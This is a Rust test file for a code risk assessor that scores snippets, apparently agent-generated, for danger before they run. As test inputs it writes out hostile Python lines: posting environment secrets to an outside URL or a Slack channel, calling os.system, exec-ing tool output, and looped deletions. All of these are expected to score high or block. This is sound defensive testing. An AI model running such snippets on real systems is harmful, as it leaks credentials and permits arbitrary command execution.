//! Risk assessment: determinism, the critical floor, tool annotations, loops, weights.

use codeward_core::{
    Finding, FindingCategory, Language, RiskAssessor, RiskLevel, Severity, ValidationReport,
};
use codeward_security::{Risk, RiskWeights, Validator};

use crate::corpus_code::catalogue;

fn assess(code: &str, language: Language) -> codeward_core::RiskAssessment {
    let tools = catalogue();
    let report = Validator::new()
        .expect("validator")
        .check(code, language, &tools)
        .expect("validates");
    Risk::new().assess(code, language, &report, &tools)
}

fn factor(a: &codeward_core::RiskAssessment, name: &str) -> Option<f64> {
    a.factors.iter().find(|f| f.name == name).map(|f| f.points)
}

#[test]
fn assessment_is_deterministic_and_bounded() {
    let code = "import os, requests\nrequests.post('https://x', data=os.environ['K'])\nos.system('id')\neval('1')\n";
    let a = assess(code, Language::Python);
    let b = assess(code, Language::Python);
    assert_eq!(a, b);
    assert_eq!(a.score, 100, "{:?}", a.factors);
    assert_eq!(a.level, RiskLevel::Critical);
    assert!(
        a.recommendation.starts_with("block"),
        "{}",
        a.recommendation
    );
    let clean = assess("print(sum([1, 2, 3]))\n", Language::Python);
    assert_eq!((clean.score, clean.level), (0, RiskLevel::Low));
    assert!(clean.recommendation.starts_with("run"));
}

#[test]
fn a_critical_finding_is_at_least_high_whatever_the_weights() {
    let mut weights = RiskWeights::default();
    weights.critical_finding = 1.0;
    weights.read_only_tool = -50.0;
    weights.read_only_tool_floor = -50.0;
    let tools = catalogue();
    let code = "r = demo.notes_search(query='x')\nexec(r[0]['body'])\n";
    let report = Validator::new()
        .expect("validator")
        .check(code, Language::Python, &tools)
        .expect("validates");
    let a = Risk::with_weights(weights).assess(code, Language::Python, &report, &tools);
    assert_eq!(a.score, 0);
    assert_eq!(a.level, RiskLevel::High);
    assert!(a.requires_approval());
}

#[test]
fn tool_annotations_raise_and_lower_risk() {
    let read_only = assess(
        "demo.notes_search(query='a')\nfiles.read_file(path='b')\n",
        Language::Python,
    );
    assert!(factor(&read_only, "tools.read_only").is_some_and(|p| p < 0.0));
    assert_eq!(read_only.score, 0);

    let destructive = assess(
        "demo.notes_delete(id='1')\nfiles.write_file(path='a', content='b')\n",
        Language::Python,
    );
    assert!(factor(&destructive, "tools.destructive").is_some_and(|p| p > 0.0));
    let open_world = assess(
        "await slack.postMessage({ channel: '#a', text: 'b' });\n",
        Language::TypeScript,
    );
    assert!(factor(&open_world, "tools.open_world").is_some_and(|p| p > 0.0));
    assert!(destructive.score > read_only.score);
    // Tools without annotations take the MCP defaults: destructive and open world.
    let unannotated = assess("db.drop_table(name='t')\n", Language::Python);
    assert!(
        factor(&unannotated, "tools.destructive").is_some()
            && factor(&unannotated, "tools.open_world").is_some()
    );
}

#[test]
fn tool_calls_in_loops_and_egress_add_points() {
    let once = assess("demo.notes_delete(id='1')\n", Language::Python);
    let looped = assess(
        "for i in range(100):\n    demo.notes_delete(id=str(i))\n",
        Language::Python,
    );
    assert!(
        factor(&looped, "loops.tool_calls").is_some_and(|p| p >= 9.0),
        "{:?}",
        looped.factors
    );
    assert!(looped.score > once.score);

    let exfil = assess(
        "import os, requests\nrequests.post('https://x', data=os.environ['A'])\n",
        Language::Python,
    );
    assert!(
        factor(&exfil, "egress.secrets").is_some(),
        "{:?}",
        exfil.factors
    );
    assert!(exfil.level >= RiskLevel::High);

    // A chat post is an exfiltration channel too.
    let via_tool = assess(
        "import os\nslack.post_message(channel='#x', text=str(os.environ))\n",
        Language::Python,
    );
    assert!(
        factor(&via_tool, "egress.secrets").is_some(),
        "{:?}",
        via_tool.factors
    );
    assert!(via_tool.level >= RiskLevel::High);
    let env_only = assess("import os\nprint(os.getenv('TZ'))\n", Language::Python);
    assert!(factor(&env_only, "egress.secrets").is_none());
    assert!(env_only.level < RiskLevel::High);
}

#[test]
fn weights_and_thresholds_are_configurable() {
    let report = {
        let mut r = ValidationReport::default();
        r.findings.push(Finding::new(
            "x.warn",
            FindingCategory::Filesystem,
            Severity::Warning,
            "w",
            1,
            1,
        ));
        r
    };
    let default = Risk::new().assess("x", Language::Python, &report, &[]);
    assert_eq!((default.score, default.level), (8, RiskLevel::Low));
    let mut weights = RiskWeights::default();
    weights.warning_finding = 30.0;
    weights.medium_at = 10;
    weights.high_at = 30;
    let strict = Risk::with_weights(weights).assess("x", Language::Python, &report, &[]);
    assert_eq!((strict.score, strict.level), (30, RiskLevel::High));
}

#[test]
fn syntax_errors_recommend_rejection() {
    let a = assess("def f(:\n", Language::Python);
    assert!(
        a.recommendation.starts_with("reject"),
        "{}",
        a.recommendation
    );
    assert!(a.recommendation.contains("line 1"));
}

#[test]
fn loop_points_come_from_the_reports_looped_tools_not_from_messages() {
    // A report from any validator: the loop finding's message names nothing; looped_tools
    // says which tool each loop site calls.
    let tools = catalogue();
    let mut report = ValidationReport::default();
    report.findings.push(Finding::new(
        "py.resource.tool-call-in-loop",
        FindingCategory::ResourceAbuse,
        Severity::Info,
        "a tool call inside a loop",
        2,
        5,
    ));
    report.tools_used = vec!["demo.notes_delete".into()];
    report.looped_tools = vec!["demo.notes_delete".into()];
    let code = "for i in range(3):\n    demo.notes_delete(id=str(i))\n";
    let a = Risk::new().assess(code, Language::Python, &report, &tools);
    let destructive_loop = factor(&a, "loops.tool_calls").expect("loop factor");
    report.looped_tools = vec!["demo.notes_search".into()];
    let b = Risk::new().assess(code, Language::Python, &report, &tools);
    let read_only_loop = factor(&b, "loops.tool_calls").expect("loop factor");
    assert!(destructive_loop > read_only_loop, "{a:?} vs {b:?}");
}
